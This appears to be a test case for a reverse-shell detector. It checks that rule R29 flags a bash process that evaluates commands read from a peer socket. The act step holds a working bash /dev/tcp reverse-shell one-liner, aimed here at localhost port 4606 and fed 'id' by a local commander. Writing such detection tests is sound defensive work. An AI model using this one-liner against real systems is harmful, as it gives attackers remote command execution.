# R29: bash evaluates each line of a peer
# stage: behaviour
# within: 1500 ms
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.0.process_id: $bash
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4606

#: prepare
. lib/peers.sh
commander 4606 300 'id; sleep 0.1'
#: act
. lib/peers.sh
act
bash -c 'exec 9<>/dev/tcp/127.0.0.1/4606; while read -r l <&9; do eval "$l" >&9 2>&1; done' \
  < /dev/null > /dev/null 2>&1 & fact bash $!
await 'at $bash 9 socket:*'
